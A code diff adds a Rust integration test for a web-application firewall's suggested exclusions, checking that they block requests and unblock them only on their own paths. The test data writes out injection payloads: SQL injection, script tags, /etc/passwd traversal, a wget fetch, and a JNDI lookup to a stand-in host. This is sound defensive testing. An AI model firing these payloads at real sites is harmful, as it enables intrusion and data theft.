@@ -26,6 +26,7 @@ crate::tests![
     managed_findings_of_a_hit_are_recorded,
     managed_rules_that_do_not_load_are_refused,
     managed_events_become_suggestions,
+    managed_suggestions_load_and_stop_what_they_are_made_of,
     builtin_rules_refuse_attacks_and_let_people_in,
     crs_install_takes_only_what_is_right,
     crs_install_over_the_network,
@@ -395,6 +396,93 @@ async fn managed_events_become_suggestions() -> Outcome {
     let (ok, said) = node.command(&["reload"]).await?;
     ensure!(ok, "{said}");
     ensure!(status(&node, "/wiki/a?q=attack").await? == 200 && status(&node, "/?q=attack").await? == 403, "after it");
+    node.stop().await
+}
+
+/// What people might send to a site where it is no attack, each to a path of its own: the request line without the version, fields, body.
+fn mistakes() -> Vec<(String, String, String)> {
+    const SCRIPT: &str = "%3Cscript%3Ealert(1)%3C/script%3E";
+    // <script>alert(document.domain)</script>
+    const ENCODED: &str = "PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ";
+    let all = "1'+union+select+password+from+users--+%26%26+cat+/etc/passwd;wget+http://h.example/x+%3Cscript%3Ealert(1)%3C/script%3E\
+               ../../../etc/passwd+$%7Bjndi:ldap://h.example/a%7D+%7B%7B7*7%7D%7D+%3C?php+system('id')+?%3E+;waitfor+delay+'0:0:9'";
+    let many: Vec<String> = (0..20).map(|n| format!("p{n}={SCRIPT}")).collect();
+    let part =
+        "--b\r\nContent-Disposition: form-data; name=a\r\nContent-Transfer-Encoding: base64\r\n\r\nQQ==\r\n--b--\r\n";
+    let json = "Content-Type: application/json\r\n";
+    [
+        ("GET /sql?name=1%27%20OR%20%277%27%3D%277".to_owned(), "", ""),
+        (format!("GET /base64?state={ENCODED}"), "", ""),
+        ("GET /cookie".to_owned(), "Cookie: state=PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ\r\n", ""),
+        (format!("GET /{ENCODED}"), "", ""),
+        (format!("GET /all?text={all}"), "", ""),
+        (format!("GET /many?{}", many.join("&")), "", ""),
+        (format!("GET /two?a={SCRIPT}&b={SCRIPT}"), "", ""),
+        (format!("GET /slashes?/(/={SCRIPT}"), "", ""),
+        (format!("GET /a%20b+(c):*/d?q={SCRIPT}"), "", ""),
+        (format!("GET /{}%20{}?q={SCRIPT}", "x".repeat(253), "y".repeat(40)), "", ""),
+        ("GET /agent".to_owned(), "User-Agent: sqlmap/1.8\r\n", ""),
+        ("GET /field".to_owned(), "X-Version: ${jndi:ldap://h.example/a}\r\n", ""),
+        ("POST /text".to_owned(), "Content-Type: text/plain\r\n", "<script>alert(1)</script>"),
+        ("POST /json".to_owned(), json, "{\"a\": {\"b\": [\"<script>alert(1)</script>\"]}}"),
+        ("POST /name".to_owned(), json, "{\"a b, c\": \"<script>alert(1)</script>\"}"),
+        ("POST /broken".to_owned(), json, "{\"a\":"),
+        (
+            "POST /xml".to_owned(),
+            "Content-Type: text/xml\r\n",
+            "<a b=\"&lt;script>alert(1)&lt;/script>\">1' or '7'='7</a>",
+        ),
+        ("POST /coded".to_owned(), "Content-Encoding: gzip\r\n", "\u{1f}"),
+        ("POST /charset".to_owned(), "Content-Type: text/plain; charset=utf-16\r\n", "text"),
+        ("POST /parts".to_owned(), "Content-Type: multipart/form-data; boundary=b\r\n", part),
+    ]
+    .map(|(line, fields, body)| (line, fields.to_owned(), body.to_owned()))
+    .into()
+}
+
+async fn managed_suggestions_load_and_stop_what_they_are_made_of() -> Outcome {
+    let origin = ScriptedOrigin::start().await?;
+    let node = Node::start("suggestions", origin.address(), &[], &["firewall.managed.mode = \"log\""]).await?;
+    let ask = async |(line, fields, body): &(String, String, String)| {
+        let target = line.split(' ').nth(1).unwrap_or_default();
+        origin.on(target, vec![Act::reply("200 OK", "Cache-Control: no-store\r\n", "passed")]);
+        let agent = if fields.contains("User-Agent") { "" } else { "User-Agent: Mozilla/5.0\r\n" };
+        let length = body.len();
+        let request =
+            format!("{line} HTTP/1.1\r\nHost: {HOST}\r\n{agent}{fields}Content-Length: {length}\r\n\r\n{body}");
+        anyhow::Ok(node.client().await?.ask(&request).await?.head.status()?)
+    };
+    for mistake in mistakes() {
+        let found = ask(&mistake).await?;
+        ensure!(found == 200, "{}: {found} in log mode", mistake.0);
+    }
+    let dir = node.site.dir().display().to_string();
+    let arguments = ["firewall", "suggest", "--config", &dir, "--visitors-min", "1"];
+    let (status, said, err) = archipel_testkit::edge::run(Path::new(BINARY), &arguments).await?;
+    ensure!(status.success(), "{said}{err}");
+    let block = "firewall.managed.mode = \"block\"";
+    node.site.plain_zone("site", HOST, origin.address(), &[block])?;
+    let (ok, text) = node.command(&["reload"]).await?;
+    ensure!(ok, "{text}");
+    for mistake in mistakes() {
+        let found = ask(&mistake).await?;
+        ensure!(found == 403, "{}: {found} without exclusions", mistake.0);
+    }
+    node.site.plain_zone("site", HOST, origin.address(), &[block, &said])?;
+    let (ok, text) = node.command(&["reload"]).await?;
+    ensure!(ok, "{text}\n{said}");
+    for (at, mistake) in mistakes().into_iter().enumerate() {
+        let found = ask(&mistake).await?;
+        ensure!(found == 200, "{}: {found} with\n{said}", mistake.0);
+        // What is excluded is excluded there alone.
+        let (line, fields, body) = mistake;
+        let elsewhere = line.replacen(" /", &format!(" /elsewhere-{at}/"), 1);
+        if !line.contains("/PHNj") {
+            let found = ask(&(elsewhere.clone(), fields, body)).await?;
+            ensure!(found == 403, "{elsewhere}: {found} with\n{said}");
+        }
+    }
+    ensure!(!said.contains("path = \"/*\""), "{said}");
     node.stop().await
 }
 
